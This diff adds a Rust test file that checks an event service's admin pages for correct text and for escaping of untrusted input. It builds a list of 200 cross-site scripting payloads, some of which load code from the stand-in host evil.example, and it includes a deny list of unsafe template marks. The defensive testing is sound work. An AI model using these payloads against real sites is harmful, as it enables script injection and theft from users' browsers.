@@ -1,0 +1,219 @@
+//! The page: its words, and that nothing from elsewhere ever becomes markup.
+
+use super::*;
+
+/// The text of a page as people read it: without tags, with blanks in one.
+fn words(html: &str) -> String {
+    let body = html.split_once("<main").unwrap().1;
+    let mut text = String::new();
+    let mut in_tag = true;
+    for letter in body.chars() {
+        match letter {
+            '<' => {
+                in_tag = true;
+                text.push(' ');
+            }
+            '>' => in_tag = false,
+            letter if !in_tag => text.push(letter),
+            _ => {}
+        }
+    }
+    let lines = text.lines().map(|line| line.split_whitespace().collect::<Vec<_>>().join(" "));
+    lines.filter(|line| !line.is_empty()).collect::<Vec<_>>().join("\n")
+}
+
+#[tokio::test]
+async fn what_each_view_says() {
+    let bench = Bench::new();
+    bench.keep(&version("a").previous_state("IN_REVIEW").subject_id("6444444444"), &["ci", "chat"]).await;
+    bench.clock.advance(Duration::from_mins(90));
+    bench
+        .keep(&sample::of(&EventKind::BuildUploadStateUpdated).id("b").state("COMPLETE").time(NOW.parse().unwrap()), &["ci"])
+        .await;
+    bench.keep_bytes(Bytes::from_static(b"no event"), &[]).await;
+    bench.finish("ci", dead("the build is gone")).await;
+    bench.clock.advance(Duration::from_mins(5));
+    for (name, path) in
+        [("overview", "/"), ("events", "/events"), ("event", "/events/1"), ("unparsed", "/events/3"), ("handlers", "/handlers")]
+    {
+        let answer = bench.get(path).await;
+        assert_eq!((answer.status, answer.header("content-type")), (200, "text/html; charset=utf-8"), "{}", answer.text);
+        insta::assert_snapshot!(name, words(&answer.text));
+    }
+}
+
+#[tokio::test]
+async fn an_empty_view_says_what_to_do_next() {
+    let bench = Bench::with(
+        "[[endpoint]]\nname = 'my-app'\npath = '/my-app'\nsecrets = ['a secret for the tests of the page']\n[admin]\ntoken = 'the token of an operator'\n",
+    );
+    for (name, path) in [
+        ("empty_overview", "/"),
+        ("empty_events", "/events"),
+        ("empty_search", "/events?handler=ci"),
+        ("empty_handlers", "/handlers"),
+    ] {
+        insta::assert_snapshot!(name, words(&bench.get(path).await.text));
+    }
+    let gone = bench.get("/events/9").await;
+    assert_eq!((gone.status, gone.header("content-type")), (404, "text/html; charset=utf-8"));
+    assert!(words(&gone.text).contains("there is no receipt 9"), "{}", gone.text);
+}
+
+/// Payloads that run a script where they are not escaped: tags, attributes, entities, comments, templates, schemes.
+fn payloads() -> Vec<String> {
+    let scripts = ["alert(1)", "alert`1`", "import('//evil.example')", "self['al'+'ert'](1)"];
+    let frames = [
+        "<script>@</script>",
+        "<ScRiPt>@</sCrIpT>",
+        "<script/x>@</script>",
+        "</script><script>@</script>",
+        "</title><script>@</script>",
+        "</textarea><script>@</script>",
+        "</pre><script>@</script>",
+        "</svg><script>@</script>",
+        "--><script>@</script><!--",
+        "]]><script>@</script>",
+        "\"><script>@</script>",
+        "'><script>@</script>",
+        "\"><img src=x onerror=@>",
+        "'><img src=x onerror='@'>",
+        "<img src=x onerror=\"@\">",
+        "<IMG SRC=x ONERROR=@>",
+        "<img/src/onerror=@>",
+        "<svg onload=@>",
+        "<svg><animate onbegin=@ attributeName=x>",
+        "<svg><script>@</script></svg>",
+        "<math><mtext><script>@</script></mtext></math>",
+        "<body onload=@>",
+        "<iframe srcdoc=\"<script>@</script>\">",
+        "<iframe src=\"javascript:@\">",
+        "<a href=\"javascript:@\">x</a>",
+        "<form action=\"javascript:@\"><button>",
+        "<input autofocus onfocus=@>",
+        "<details open ontoggle=@>",
+        "<video><source onerror=@>",
+        "<object data=\"javascript:@\">",
+        "<base href=\"javascript:@//\">",
+        "<meta http-equiv=refresh content=\"0;url=javascript:@\">",
+        "<link rel=stylesheet href=\"//evil.example/@\">",
+        "<style>@import'//evil.example'</style>",
+        "\" onmouseover=\"@",
+        "' onmouseover='@",
+        "\" autofocus onfocus=\"@\" x=\"",
+        "` onmouseover=`@`",
+        "\u{0}<script>@</script>",
+        "<\u{0}script>@</script>",
+        "<script\u{c}>@</script>",
+        "<!--<img src=\"--><img src=x onerror=@//\">",
+        "<template><script>@</script></template>",
+        "<noscript><p title=\"</noscript><img src=x onerror=@>\">",
+        "{{ '<script>@</script>' | safe }}",
+        "{% raw %}<script>@</script>{% endraw %}",
+        "<x onclick=@ tabindex=0 autofocus onfocus=@>",
+        "<marquee onstart=@>",
+        "<isindex type=image src=1 onerror=@>",
+        "<a href='data:text/html,<script>@</script>'>x</a>",
+    ];
+    frames.iter().flat_map(|frame| scripts.map(|script| frame.replace('@', script))).collect()
+}
+
+/// Whether a payload stands in a page as it is. One without a letter that has a meaning in HTML may.
+fn stands_in(html: &str, payload: &str) -> bool {
+    payload.contains(['<', '>', '"', '\'']) && html.contains(payload)
+}
+
+/// The tags and attributes of a page, which are all its markup.
+fn markup(html: &str) -> Vec<String> {
+    let mut tags = Vec::new();
+    let mut rest = html;
+    while let Some((_, after)) = rest.split_once('<') {
+        let mut quote = None;
+        let end = after.find(|letter: char| match (quote, letter) {
+            (None, '"' | '\'') => {
+                quote = Some(letter);
+                false
+            }
+            (None, '>') => true,
+            (Some(open), letter) if letter == open => {
+                quote = None;
+                false
+            }
+            _ => false,
+        });
+        let (tag, later) = after.split_at(end.unwrap_or(after.len()));
+        // What stands in quotes is no markup.
+        let bare: String = tag.split('"').step_by(2).collect::<Vec<_>>().join("\"\"");
+        tags.push(bare.to_lowercase());
+        rest = later;
+    }
+    tags
+}
+
+#[test]
+fn the_check_finds_markup() {
+    assert_eq!(markup("<p title=\"<b>\">a</p><IMG onerror=x>"), ["p title=\"\"", "/p", "img onerror=x"]);
+}
+
+#[tokio::test]
+async fn nothing_from_elsewhere_becomes_markup() {
+    let payloads = payloads();
+    assert_eq!(payloads.len(), 200);
+    let plain = Bench::new();
+    fill(&plain, "harmless").await;
+    let mut expected = Vec::new();
+    for path in VIEWS {
+        expected.push(markup(&plain.get(path).await.text));
+    }
+    for payload in &payloads {
+        let bench = Bench::new();
+        fill(&bench, payload).await;
+        for (path, expected) in VIEWS.iter().zip(&expected) {
+            let html = bench.get(path).await.text;
+            assert!(!stands_in(&html, payload), "{path} has {payload:?} as it came");
+            assert_eq!(&markup(&html), expected, "{path} has other markup with {payload:?}");
+        }
+    }
+}
+
+const VIEWS: [&str; 5] = ["/", "/events", "/events/1", "/events/2", "/handlers"];
+
+/// The same receipts, with a text in every place that somebody else can fill.
+async fn fill(bench: &Bench, text: &str) {
+    let json = |path: &str| (path.to_owned(), serde_json::Value::from(text));
+    let paths = ["attributes.newValue", "attributes.oldValue", "relationships.instance.data.type"].map(json);
+    let event = paths.into_iter().fold(version(text).subject_id(text), |event, (path, value)| event.set(path, value));
+    bench.keep(&event, &["ci", "chat"]).await;
+    bench.keep_bytes(format!("{{\"data\": {text}").into(), &[]).await;
+    let strange = sample::of(&EventKind::from(text)).id("unknown kind");
+    bench.keep(&strange, &["ci"]).await;
+    bench.finish("ci", dead(text)).await;
+    let retry = Verdict::Retry { due_at: bench.clock.now(), result: AttemptResult::Failed, error: text.to_owned() };
+    bench.finish("chat", retry).await;
+    let failed = crate::inbox::account::Pass::Failed { error: text.to_owned() };
+    bench.store.end_pass("my-app", failed, bench.clock.now()).await.unwrap();
+}
+
+#[tokio::test]
+async fn what_a_person_types_is_shown_as_typed() {
+    let bench = Bench::new();
+    for payload in payloads() {
+        let typed: String = url::form_urlencoded::byte_serialize(payload.as_bytes()).collect();
+        for path in ["/events?state=", "/events?subject=", "/events?unknown=", "/events?since=", "/handlers?did=", "/events/"] {
+            let html = bench.get(&format!("{path}{typed}")).await.text;
+            assert!(!stands_in(&html, &payload), "{path}{typed}");
+        }
+    }
+}
+
+#[test]
+fn no_template_marks_anything_as_safe() {
+    for file in std::fs::read_dir("src/server/admin/page/templates").unwrap() {
+        let file = file.unwrap().path();
+        let text = std::fs::read_to_string(&file).unwrap();
+        for mark in ["safe", "autoescape", "<script", "style=", "onclick", "javascript:"] {
+            assert!(!text.contains(mark), "{} has `{mark}`", file.display());
+        }
+        assert!(file.extension().is_some_and(|end| end == "html"), "only names in .html are escaped by themselves");
+    }
+}
